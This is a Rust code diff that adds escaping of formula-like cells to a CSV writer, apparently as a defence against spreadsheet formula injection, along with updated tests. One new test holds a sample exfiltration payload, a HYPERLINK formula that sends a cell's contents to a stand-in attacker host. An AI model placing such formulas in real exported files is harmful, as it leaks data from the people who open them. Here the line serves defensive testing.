@@ -11,6 +11,7 @@ use almanac_core::domain::{Generated, RowId};
 use almanac_core::output::HEADERS;
 
 use crate::atomic::write_atomic;
+use crate::formula::CsvCells;
 use crate::scan::{Raw, Source, scan};
 use crate::types::{Fields, FileError, FileRow, Format, err};
 
@@ -236,9 +237,10 @@ impl EventsFile {
         }
     }
 
-    /// The file's text in its format: CSV with `\n` line ends; JSON indented by two spaces, entries
-    /// and fields in their original order, non-ASCII text as is.
-    pub fn render(&self) -> String {
+    /// The file's text in its format: CSV with `\n` line ends, every cell (the header's too)
+    /// written by `cells` (a formula-like cell escaped, or raw); JSON indented by two spaces,
+    /// entries and fields in their original order, non-ASCII text as is (`cells` does not apply).
+    pub fn render(&self, cells: CsvCells) -> String {
         match &self.body {
             Body::Csv { headers, records } => {
                 let mut out = String::new();
@@ -250,9 +252,9 @@ impl EventsFile {
                         .terminator(csv::Terminator::Any(b'\n'))
                         .from_writer(string_sink(&mut out));
                     // Writing to a String cannot fail.
-                    let _ = w.write_record(headers);
+                    let _ = w.write_record(headers.iter().map(|c| cells.apply(c).into_owned()));
                     for r in records {
-                        let _ = w.write_record(r);
+                        let _ = w.write_record(r.iter().map(|c| cells.apply(c).into_owned()));
                     }
                     let _ = w.flush();
                 }
@@ -281,13 +283,13 @@ impl EventsFile {
         }
     }
 
-    /// Writes [`EventsFile::render`] to `path` atomically: a temporary file in the same folder,
-    /// flushed to disk, then renamed over `path`.
+    /// Writes [`EventsFile::render`] (CSV cells by `cells`) to `path` atomically: a temporary
+    /// file in the same folder, flushed to disk, then renamed over `path`.
     ///
     /// # Errors
     /// [`FileError`] when the folder is not writable or the disk is full; `path` is then untouched.
-    pub fn write_atomic(&self, path: &Path) -> Result<(), FileError> {
-        write_atomic(path, self.render().as_bytes())
+    pub fn write_atomic(&self, path: &Path, cells: CsvCells) -> Result<(), FileError> {
+        write_atomic(path, self.render(cells).as_bytes())
     }
 }
 
@@ -366,8 +368,43 @@ mod tests {
         let report = file.merge(&[answer("1"), answer("2")], false);
         assert_eq!(report.rows_written, 2);
         assert_eq!(
-            file.render(),
+            file.render(CsvCells::Escaped),
             "id,title,year,note,content_simple,content_detailed,related_movies\n1,One,1945,keep me,s 1,\"d, with \"\"quotes\"\"\",m\n2,Two,1999,x,s 2,\"d, with \"\"quotes\"\"\",m\n"
+        );
+    }
+
+    #[test]
+    fn formula_like_cells_of_a_csv_output_are_escaped_unless_raw_and_json_is_unchanged() {
+        let (_d, path) = write("a.csv", b"id,title,note\n1,One,=1+1\n2,Two,x\n");
+        let mut file = EventsFile::read(&path).unwrap();
+        let mut evil = answer("1");
+        evil.1.simple = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
+        evil.1.year = "-500".into();
+        file.merge(&[evil.clone(), answer("2")], true);
+        let escaped = file.render(CsvCells::Escaped);
+        let mut lines = escaped.lines().skip(1);
+        assert_eq!(
+            lines.next().unwrap(),
+            "1,One,'=1+1,'-500,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\"d, with \"\"quotes\"\"\",m"
+        );
+        assert_eq!(
+            lines.next().unwrap(),
+            "2,Two,x,1945,s 2,\"d, with \"\"quotes\"\"\",m"
+        );
+        let raw = file.render(CsvCells::Raw);
+        assert!(raw.contains("1,One,=1+1,-500,\"=HYPERLINK("), "{raw}");
+
+        let (_d, path) = write("a.json", b"[{\"id\": \"1\", \"title\": \"=One\"}]");
+        let mut file = EventsFile::read(&path).unwrap();
+        file.merge(&[evil], true);
+        assert_eq!(
+            file.render(CsvCells::Escaped),
+            file.render(CsvCells::Raw),
+            "JSON is unchanged"
+        );
+        assert!(
+            file.render(CsvCells::Escaped)
+                .contains("\"title\": \"=One\"")
         );
     }
 
@@ -380,7 +417,7 @@ mod tests {
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[1].line, 3);
         file.merge(&[answer("b")], false);
-        let out = file.render();
+        let out = file.render(CsvCells::Escaped);
         assert!(
             out.find("\"b\"").unwrap() < out.find("\"a\"").unwrap(),
             "{out}"
@@ -398,7 +435,7 @@ mod tests {
         );
         let mut file = EventsFile::read(&path).unwrap();
         file.merge(&[answer("y")], false);
-        let back: Value = serde_json::from_str(&file.render()).unwrap();
+        let back: Value = serde_json::from_str(&file.render(CsvCells::Escaped)).unwrap();
         assert_eq!(
             back[0],
             serde_json::json!({"id": "x", "title": "X", "extra": 3})
@@ -409,7 +446,10 @@ mod tests {
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[0].id, "1");
         file.merge(&[answer("1")], false);
-        assert!(file.render().starts_with("\u{feff}id,title,year,"));
+        assert!(
+            file.render(CsvCells::Escaped)
+                .starts_with("\u{feff}id,title,year,")
+        );
     }
 
     #[test]
